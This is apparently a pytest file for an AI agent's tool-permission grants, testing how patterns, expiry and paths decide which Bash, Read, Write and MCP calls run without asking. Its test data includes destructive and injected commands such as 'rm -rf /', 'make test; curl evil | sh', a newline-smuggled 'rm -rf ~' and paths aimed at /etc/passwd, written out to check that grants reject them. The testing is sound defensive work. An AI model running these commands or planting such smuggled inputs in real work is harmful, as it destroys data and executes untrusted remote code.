"""Which tool calls a session's grants let run without asking (dataplane_agent.turns.tool_grants)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from astrabox.runner.v1 import runner_service_pb2 as pb
from dataplane_agent.turns.tool_grants import ToolGrant, ToolGrants, main_input

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)


def grant(tool: str, pattern: str = "", expires: datetime | None = None) -> ToolGrant:
    return ToolGrant("g", tool, pattern, expires)


@pytest.mark.parametrize(
    ("pattern", "command", "allowed"),
    [
        ("", "rm -rf /", True),  # no pattern: every call of the tool
        ("make *", "make test", True),
        ("make *", "make", False),  # the space is part of the pattern
        ("make *", "make test; curl evil | sh", True),  # the grant's author asked for `*`: anything after
        ("make test", "make test; rm -rf ~", False),  # the whole input must match, not a prefix
        ("make test", "make  test", False),
        ("git status", "git status\nrm -rf ~", False),
        ("npm run ?", "npm run a", True),
        ("npm run ?", "npm run ab", False),
        ("[abc]", "a", False),  # brackets are literal, not a class
        ("[abc]", "[abc]", True),
        (".*", "anything", False),  # regex syntax is literal
        ("a\\*", "a\\xyz", True),  # a backslash is literal; `*` still matches any run
    ],
)
def test_a_bash_grant_matches_the_whole_command(pattern: str, command: str, allowed: bool) -> None:
    assert grant("Bash", pattern).matches("Bash", {"command": command}, NOW) is allowed


def test_file_tools_match_their_path_and_other_tools_their_whole_input() -> None:
    assert grant("Read", "/workspace/src/*").matches("Read", {"file_path": "/workspace/src/a/b.py"}, NOW)
    assert not grant("Read", "/workspace/src/*").matches("Read", {"file_path": "/etc/passwd"}, NOW)
    assert not grant("Write", "/workspace/*").matches("Write", {"file_path": "/workspace/../etc/x"}, NOW)
    assert grant("Write", "/workspace/*").matches("Write", {"file_path": "/workspace/./a//b"}, NOW)
    assert main_input("mcp__docs__search", {"q": "x", "a": 1}) == '{"a":1,"q":"x"}'
    assert grant("mcp__docs__search", '{"a":1,*').matches("mcp__docs__search", {"q": "x", "a": 1}, NOW)
    # A main field that is not a string falls back to the whole input.
    assert main_input("Bash", {"command": ["rm", "-rf"]}) == '{"command":["rm","-rf"]}'


def test_a_grant_is_for_its_own_tool_until_it_expires_and_never_for_a_question() -> None:
    later = NOW + timedelta(minutes=5)
    assert not grant("Bash").matches("Write", {"file_path": "x"}, NOW)
    assert grant("Bash", expires=later).matches("Bash", {"command": "ls"}, NOW)
    assert not grant("Bash", expires=later).matches("Bash", {"command": "ls"}, later)
    assert not grant("AskUserQuestion").matches("AskUserQuestion", {"questions": []}, NOW)


def test_the_set_is_replaced_whole_and_round_trips_through_proto_and_json() -> None:
    message = pb.ToolGrant(grant_id="g1", tool_name="Bash", input_pattern="ls *")
    message.expire_time.FromDatetime(NOW + timedelta(hours=1))
    parsed = ToolGrant.from_proto(message)
    assert parsed == ToolGrant("g1", "Bash", "ls *", NOW + timedelta(hours=1))
    assert ToolGrant.from_json(parsed.to_json()) == parsed
    grants = ToolGrants([parsed])
    assert grants.matching("Bash", {"command": "ls -la"}, NOW) == parsed
    grants.replace([])
    assert grants.matching("Bash", {"command": "ls -la"}, NOW) is None
